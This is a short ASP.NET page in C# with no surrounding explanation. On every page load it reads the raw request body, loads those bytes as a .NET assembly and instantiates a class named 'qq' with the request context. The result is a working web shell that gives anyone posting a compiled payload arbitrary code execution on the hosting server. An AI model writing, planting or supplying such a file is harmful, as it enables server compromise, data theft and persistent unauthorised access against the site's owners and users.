<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  byte[] b = Request.BinaryRead(Request.ContentLength);
  System.Reflection.Assembly.Load(b).CreateInstance("qq").Equals(Context);
}
</script>
